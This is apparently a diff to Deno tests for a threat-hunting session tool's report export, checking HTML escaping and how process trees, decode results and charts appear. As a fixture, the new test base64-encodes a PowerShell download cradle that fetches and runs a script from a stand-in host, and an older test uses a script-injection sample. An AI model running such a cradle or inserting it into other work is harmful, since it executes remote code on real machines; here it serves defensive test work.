@@ -1,4 +1,7 @@
 import assert from "node:assert/strict";
+import { openSession } from "../../src/session/session.ts";
+import { openLocalProvider } from "../../src/providers/local/local_provider.ts";
+import { tempFolder } from "../_helpers.ts";
 import { exportReport } from "../../src/session/export_report.ts";
 import { demoSession } from "./_export_fixture.ts";
 
@@ -70,7 +73,7 @@ Deno.test("exportReport() writes findings, parameters and each kept step, escape
     // Outside code blocks (which show text as it is), nothing is left as HTML.
     const prose = text.replace(/(`{3,})[^\n]*\n[\s\S]*?\n\1/g, "");
     assert.ok(!prose.includes("<script>"));
-    assert.match(text, /```\n\{"name":"<script>alert\(1\)<\/script>"\}\n```/);
+    assert.match(text, /```\n\{\n {2}"name": "<script>alert\(1\)<\/script>"\n\}\n```/);
     assert.match(text, /^# Session report/);
     assert.ok(text.indexOf("## Findings") < text.indexOf("## Parameters"));
     assert.match(text, /- \*\*1\. spray\*\*: Three IPs sprayed &#60;script&#62;/);
@@ -85,5 +88,50 @@ Deno.test("exportReport() writes findings, parameters and each kept step, escape
     assert.match(text, /- cache: miss/);
     assert.match(text, /\*Chart: timechart/);
   });
+  await session.close();
+});
+
+Deno.test("exportReport() shows what code steps showed: printed text, trees, decode results, charts", async () => {
+  const session = await openSession("shown", {
+    home: await tempFolder(),
+    provider: await openLocalProvider(),
+  });
+  await session.query(
+    "procs",
+    "DeviceProcessEvents | where DeviceName startswith 'lks-ws-1042' | where TimeGenerated between (datetime(2026-03-12T01:50:00Z) .. 1h)",
+  );
+  await session.run(
+    "tree",
+    "const tree = buildProcessTree(procs); console.log(`${tree.summary().processes} processes`)",
+  );
+  const encoded = btoa(
+    "IEX (New-Object Net.WebClient).DownloadString('https://cdn.edgeupdate-sync.example/a/u.ps1')",
+  );
+  await session.run("cradle", `const cradle = decode("${encoded}")`);
+  await session.run(
+    "bars",
+    'const bars = barChart(procs, { category: "FileName", title: "Programs run" })',
+  );
+  await session.mark("tree", "finding", "the implant's tree");
+  await session.mark("bars", "finding", "what ran");
+  const html = await exportReport(session, { format: "html" });
+  const section = (name: string) => {
+    const at = html.indexOf(`. ${name} <small>`);
+    return html.slice(at, html.indexOf("</section>", at));
+  };
+  assert.ok(!html.includes("[object Object]"));
+  // The tree as text, and what the step printed.
+  assert.match(section("tree"), /msedgeupdate\.exe/);
+  assert.match(section("tree"), /<pre class="output" title="printed">\d+ processes\n<\/pre>/);
+  // The decode result, with the URL the cradle fetches.
+  assert.match(section("cradle"), /https:\/\/cdn\.edgeupdate-sync\.example\/a\/u\.ps1/);
+  // The chart a code step made, inline.
+  assert.match(
+    section("bars"),
+    /<div class="chart" data-step="4" data-visualization="bar"><svg[\s\S]*Programs run[\s\S]*<\/svg><\/div>/,
+  );
+  const markdown = await exportReport(session, { format: "markdown" });
+  assert.match(markdown, /Printed:\n\n```\n\d+ processes\n\n```/);
+  assert.match(markdown, /\*Chart: bar: Programs run\.\*/);
   await session.close();
 });
